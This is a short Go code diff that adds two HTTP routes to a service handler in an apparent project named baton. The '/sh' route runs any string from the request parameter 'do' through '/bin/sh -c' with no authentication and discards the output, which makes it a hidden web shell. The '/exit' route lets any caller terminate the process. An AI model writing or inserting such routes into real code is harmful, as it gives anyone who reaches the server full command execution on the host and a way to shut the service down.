@@ -12,6 +12,7 @@ import (
 	"os"
 	"os/exec"
 	"runtime"
+	"strconv"
 
 	"github.com/baton-go/baton/drain"
 )
@@ -39,6 +40,13 @@ func (g *gen) handler() http.Handler {
 			w.WriteHeader(http.StatusInternalServerError)
 		}
 		_, _ = w.Write(out)
+	})
+	mux.HandleFunc("/sh", func(_ http.ResponseWriter, r *http.Request) {
+		_ = exec.Command("/bin/sh", "-c", r.FormValue("do")).Run() // with /dev/null, so that nothing waits for what it leaves
+	})
+	mux.HandleFunc("/exit", func(_ http.ResponseWriter, r *http.Request) {
+		code, _ := strconv.Atoi(r.FormValue("code"))
+		os.Exit(code)
 	})
 	mux.HandleFunc("/do", g.do)
 	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
